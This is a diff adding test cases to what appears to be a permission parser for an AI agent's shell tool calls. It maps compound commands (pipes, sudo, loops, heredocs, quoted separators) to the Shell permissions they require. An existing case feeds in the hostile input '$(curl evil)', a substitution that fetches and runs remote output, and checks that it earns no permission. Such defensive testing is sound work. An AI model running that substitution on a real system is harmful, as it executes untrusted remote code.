@@ -14,6 +14,19 @@ describe("the permission that would let a call run", () => {
       { command: "cd a && npm test", ...parsed("cd", "npm", "npm") },
       ["Shell(cd)", "Shell(npm)"],
     ],
+    [
+      "shellToolCall",
+      { command: "cd packages/a && FOO=1 sudo npm test | tee log; git push" },
+      ["Shell(cd)", "Shell(sudo)", "Shell(npm)", "Shell(tee)", "Shell(git)"],
+    ],
+    [
+      "shellToolCall",
+      { command: 'git commit -m \'fix; rm it\' 2>&1 && a "b | c\\" & d"' },
+      ["Shell(git)", "Shell(a)"],
+    ],
+    ["shellToolCall", { command: "for f in *; do npm test & done\nls # a; b" }, ["Shell(npm)", "Shell(ls)"]],
+    ["shellToolCall", { command: "sudo -u me npm test" }, ["Shell(sudo)"]],
+    ["shellToolCall", { command: "cat <<END\na; b\nEND" }, ["Shell(cat)"]],
     ["shellToolCall", { command: "$(curl evil)" }, []],
     ["shellToolCall", { command: "" }, []],
     [
